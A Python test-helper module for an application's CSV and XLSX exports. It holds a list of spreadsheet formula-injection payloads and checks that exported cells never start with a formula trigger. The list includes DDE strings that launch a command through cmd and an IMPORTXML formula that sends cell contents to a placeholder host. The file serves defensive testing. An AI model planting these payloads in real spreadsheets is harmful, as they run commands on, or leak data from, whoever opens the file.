"""Formula-injection payloads, and checks that an exported CSV or XLSX runs none of them.

Shared by every export's tests (`accounts/exports.py` is the one helper they all use)."""

import csv
import io

from ecm_inspect.accounts.exports import FORMULA_TRIGGERS

PAYLOADS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    "\x01=1+1",  # a control character XLSX cannot hold, in front of a formula
]


def unsafe(value: object) -> bool:
    """A text cell a spreadsheet program would run as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_unsafe_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if unsafe(c)]


def xlsx_unsafe_cells(data: bytes) -> list[object]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    bad: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or unsafe(cell.value):
                    bad.append(cell.value)
    return bad


def csv_text_cells(text: str) -> set[str]:
    return {c for row in csv.reader(io.StringIO(text)) for c in row}
